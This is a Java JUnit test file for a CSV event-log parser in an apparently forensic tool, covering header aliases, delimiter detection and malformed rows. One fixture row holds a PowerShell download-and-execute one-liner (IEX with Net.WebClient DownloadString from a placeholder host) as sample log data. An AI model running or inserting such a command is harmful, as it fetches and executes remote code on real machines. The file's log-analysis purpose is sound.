package dwell.format.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.event.Event;
import dwell.event.LogSource;
import dwell.format.Collected;
import java.io.IOException;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvLogTest {
    @Test
    void eventLogExportWithHeaderAnswersToAliases() throws IOException {
        String csv = "TimeCreated,Id,LogName,ProviderName,MachineName,Message\r\n"
                + "2021-03-03T07:55:00.0000000Z,4104,Microsoft-Windows-PowerShell/Operational,Microsoft-Windows-PowerShell,"
                + "EXCH01.contoso.com,\"Creating Scriptblock text (1 of 1):\nIEX (New-Object Net.WebClient).DownloadString(\"\"http://x/a\"\")\"\r\n"
                + "#not a comment,1,,,,\r\n";
        Collected c = Collected.read(new CsvLog(), "export/ps.csv", csv);
        assertEquals(List.of(), c.unreadable);
        assertEquals(2, c.events.size());
        Event e = c.event(0);
        assertEquals(Instant.parse("2021-03-03T07:55:00Z"), e.time());
        assertEquals("4104", e.get("Id"));
        assertEquals("4104", e.get("EventID"));
        assertEquals("Microsoft-Windows-PowerShell", e.get("Provider_Name"));
        assertEquals("EXCH01.contoso.com", e.host());
        assertEquals(new LogSource("windows", null, "powershell"), e.logSource());
        assertTrue(e.get("Message").endsWith("DownloadString(\"http://x/a\")"));
        assertEquals(2, e.provenance().line());
        assertEquals(CsvLog.ID, e.format());
        assertEquals("#not a comment", c.event(1).get("TimeCreated"));
        assertNull(c.event(1).time());
        assertEquals(4, c.event(1).provenance().line());
    }

    @Test
    void semicolonAndTabDelimitersAreDetected() throws IOException {
        Collected semi = Collected.read(new CsvLog(), "a.csv", "Date;Host;Action\n2021-03-03 08:00:00;fw1;deny\n");
        assertEquals("deny", semi.event(0).get("Action"));
        assertEquals(Instant.parse("2021-03-03T08:00:00Z"), semi.event(0).time());
        assertEquals(LogSource.NONE, semi.event(0).logSource());
        Collected tab = Collected.read(new CsvLog(), "a.tsv", "EventTime\tuser\tip\n1614758400\tjdoe\t192.0.2.1\n");
        assertEquals("192.0.2.1", tab.event(0).get("ip"));
        assertEquals(Instant.ofEpochSecond(1614758400), tab.event(0).time());
    }

    @Test
    void tooManyValuesIsReported() throws IOException {
        Collected c = Collected.read(new CsvLog(), "a.csv", "a,b\n1,2\n1,2,3\n1\n");
        assertEquals(2, c.events.size());
        assertEquals(List.of(3L), c.unreadableLines);
        assertNull(c.event(1).get("b"));
    }

    @Test
    void columnsWrittenWithSpacesAlsoAnswerRespelled() throws IOException {
        Collected c = Collected.read(new CsvLog(), "defender.csv",
                "Time Created,Threat Name,ThreatID,Threat ID\n2026-04-20T09:31:12Z,Virus:DOS/EICAR_Test_File,7,8\n");
        Event e = c.event(0);
        assertEquals("Virus:DOS/EICAR_Test_File", e.get("ThreatName"));
        assertEquals("Virus:DOS/EICAR_Test_File", e.get("Threat_Name"));
        assertEquals("Virus:DOS/EICAR_Test_File", e.get("Threat Name"));
        assertEquals("7", e.get("ThreatID"), "a column of that name wins over a respelling");
        assertEquals("8", e.get("Threat_ID"));
        assertEquals("8", e.get("Threat ID"));
    }
}
